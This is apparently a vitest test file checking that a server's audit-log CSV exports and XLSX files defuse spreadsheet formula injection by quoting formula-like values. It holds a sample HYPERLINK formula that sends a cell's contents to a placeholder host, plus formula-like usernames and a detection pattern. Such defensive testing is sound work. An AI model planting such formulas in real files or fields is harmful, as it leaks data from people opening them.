import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { EntityManager } from '@mikro-orm/knex';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeXlsx } from '../src/modules/roster-import/table-reader.js';
import { ENGINES, startServer, type TestServer } from './harness.js';

const PW = 'a-long-password-1';
// What a spreadsheet runs as a formula when a cell starts with it (OWASP "CSV injection").
const FORMULA_START = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("http://x/?"&A2,"open")';

describe.each(ENGINES)('exported files are safe to open in Excel or WPS on %s', (engine) => {
  let s: TestServer;
  beforeAll(async () => {
    s = await startServer(engine);
  });
  afterAll(() => s?.close());

  const auditCsv = async () => {
    const d = await s.ok<{ auditEventsCsv: string }>('{ auditEventsCsv }');
    return parse(d.auditEventsCsv, { columns: true }) as Record<string, string>[];
  };

  it('an account named like a formula appears in the audit export as text', async () => {
    // "-2-3" is a valid username; opened as CSV, Excel would show the formula's result, -5.
    await s.ok('mutation($i: CreateUserInput!) { createUser(input: $i) { id } }', { i: { username: '-2-3', password: PW, grants: [] } });
    await s.login('-2-3', PW);

    const rows = await auditCsv();
    expect(rows.filter((r) => r.action === 'user.create').map((r) => r.record_id)).toContain("'-2-3");
    expect(rows.filter((r) => r.action === 'auth.login').map((r) => r.actor)).toContain("'-2-3");
    for (const r of rows) for (const [column, cell] of Object.entries(r)) expect(cell, `${r.action} ${column}`).not.toMatch(FORMULA_START);
  });

  it('a HYPERLINK formula recorded in the audit log is exported inert, quotes and all', async () => {
    // The login path that once recorded such a name now refuses it; any other text field must be as safe.
    await s.services.audit.recordNow(s.em() as EntityManager, { kind: 'anonymous' }, { action: 'auth.login.failed', recordType: 'user', recordId: HYPERLINK });

    const d = await s.ok<{ auditEventsCsv: string }>('{ auditEventsCsv }');
    expect(d.auditEventsCsv).toContain(`"'=HYPERLINK(""http://x/?""&A2,""open"")"`);
    const row = (await auditCsv()).find((r) => r.action === 'auth.login.failed');
    expect(row?.record_id).toBe(`'${HYPERLINK}`);
  });
});

describe('XLSX files the server writes', () => {
  it('hold a formula-like text as text with a leading quote', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await writeXlsx('学生', ['学号', '姓名'], [['2023000001', HYPERLINK], ['-2-3', '+1+1']])) as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    expect([ws?.getCell('B2').value, ws?.getCell('A3').value, ws?.getCell('B3').value]).toEqual([`'${HYPERLINK}`, "'-2-3", "'+1+1"]);
    expect(ws?.getCell('A2').value).toBe('2023000001');
  });
});
